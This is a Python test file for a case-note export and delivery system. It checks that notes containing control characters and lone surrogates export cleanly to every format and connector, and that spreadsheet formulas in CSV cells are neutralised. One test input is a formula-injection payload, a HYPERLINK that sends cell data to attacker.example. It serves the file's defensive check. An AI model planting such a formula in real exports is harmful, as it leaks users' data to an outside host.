"""Every export and connector carries any Unicode text, including notes signed before
texts were cleaned on save: a Word line break (U+000B), NUL, ESC and half of a
surrogate pair in a section, a name or the case reference. CSV cells that a
spreadsheet would run as a formula are neutralised. A delivery error names its cause."""

from __future__ import annotations

import csv
import io
import json

import docx
import pypdf
import pytest
from lxml import etree

from api.delivery.config import DropFolderConnector, HttpConnector
from api.delivery.drop_folder import MANIFEST, deliver as deliver_to_folder, read_manifest
from api.delivery.http_post import deliver as post_note
from api.exports.context import ExportOptions
from api.exports.registry import FORMATS, export_note, export_notes_csv
from models.draft import Person
from models.record import ConfirmedNote, ConfirmedSection
from tests.exports.case_system import CaseSystem
from tests.exports.conftest import make_note

BAD = "line one\x0bline two\x00 and\x1b[31m red\ud800 end"


def awkward_note(note_id: int = 31) -> ConfirmedNote:
    """A signed note as an older casenote could store it: control characters and a lone
    surrogate in a section, a person's name and the case reference. (Its hash is set by
    hand: such text cannot be hashed as UTF-8, which is why it must never block an export.)"""
    note = make_note(note_id, factors=["1B"])
    sections = [ConfirmedSection(key=s.key, title=s.title, text=BAD if s.key == "observations" else s.text)
                for s in note.sections]
    visit = note.visit.model_copy(update={"people_present": [Person(name="Leanne\x0bPrice\x00", role="mother")]})
    return note.model_copy(update={"sections": sections, "visit": visit, "case_reference": "CN-20\x0b4871\x1b"})


def text_of(fmt: str, content: bytes) -> str:
    if fmt == "docx":
        document = docx.Document(io.BytesIO(content))
        return "\n".join(p.text for p in document.paragraphs) + "\n".join(
            cell.text for table in document.tables for row in table.rows for cell in row.cells)
    if fmt == "pdf":
        return "\n".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(content)).pages)
    if fmt == "json":
        return json.dumps(json.loads(content), ensure_ascii=False)
    if fmt == "cin-xml":
        return etree.tostring(etree.fromstring(content), encoding="unicode")
    return content.decode("utf-8-sig")


@pytest.mark.parametrize("fmt", list(FORMATS))
def test_every_format_exports_a_note_with_control_characters_and_lone_surrogates(fmt, settings):
    result = export_note(awkward_note(), fmt, ExportOptions(), settings)
    text = text_of(fmt, result.content)
    assert result.content
    for char in ("\x00", "\x1b", "\x0b", "\ud800"):
        assert char not in text
    if fmt != "cin-xml":  # the census fragment carries only codes and dates
        assert "line one" in text and "red" in text and "end" in text
        assert "Leanne" in text


def test_the_line_break_of_a_word_paste_stays_a_line_break(settings):
    document = docx.Document(io.BytesIO(export_note(awkward_note(), "docx", ExportOptions(), settings).content))
    body = "\n".join(p.text for p in document.paragraphs)
    assert "line one\nline two and[31m red\ufffd end" in body
    plain = export_note(awkward_note(), "text", ExportOptions(), settings).content.decode("utf-8")
    assert "line one\nline two and[31m red\ufffd end" in plain


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(settings):
    formula = '=HYPERLINK("http://attacker.example/?d="&A1,"open")'
    notes = [make_note(41, case_reference=formula),
             make_note(42, case_reference="+44 7700 900123", worker="@amara", confirmed_by="-x"),
             make_note(43, case_reference="\tCN-1")]
    rows = list(csv.reader(io.StringIO(export_notes_csv(notes, ExportOptions(), settings).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + formula in cells and formula not in cells
    assert "'+44 7700 900123" in cells and "'@amara" in cells and "'-x" in cells and "'\tCN-1" in cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_drop_folder_delivers_such_a_note_in_every_file_format(tmp_path, settings):
    folder = tmp_path / "drop"
    folder.mkdir()
    connector = DropFolderConnector(kind="drop_folder", name="lcs", path=folder, formats=["docx", "pdf", "json", "text"])
    outcome = deliver_to_folder(awkward_note(), connector, settings)
    assert outcome.delivered, outcome.detail
    [entry] = read_manifest(folder)
    assert {f["format"] for f in entry["files"]} == {"docx", "pdf", "json", "text"}
    for file in entry["files"]:
        content = (folder / file["name"]).read_bytes()
        assert "line one" in text_of(file["format"], content)


def test_http_delivery_carries_such_a_note(settings, monkeypatch):
    monkeypatch.setenv("CASENOTE_TEST_ENGINE_AUTH", "Bearer secret")
    with CaseSystem("secret") as receiver:
        connector = HttpConnector(kind="http", name="engine", url=receiver.url, body="multipart",
                                  document_format="docx", auth_value_env="CASENOTE_TEST_ENGINE_AUTH")
        outcome = post_note(awkward_note(), connector, settings)
        assert outcome.delivered, outcome.detail
        [stored] = receiver.stored.values()
    assert "line one\nline two" in json.dumps(stored["document"], ensure_ascii=False).replace("\\n", "\n")
    assert "line one" in text_of("docx", stored["attachment"])


def test_a_damaged_manifest_is_named_as_the_cause(tmp_path, settings):
    folder = tmp_path / "drop"
    folder.mkdir()
    (folder / MANIFEST).write_text('{"note_id": 1, "files": []}\nnot json\n')
    connector = DropFolderConnector(kind="drop_folder", name="lcs", path=folder, formats=["json"])
    outcome = deliver_to_folder(make_note(), connector, settings)
    assert not outcome.delivered and not outcome.retryable
    assert f"{MANIFEST} is not valid JSON lines (line 2)" in outcome.detail
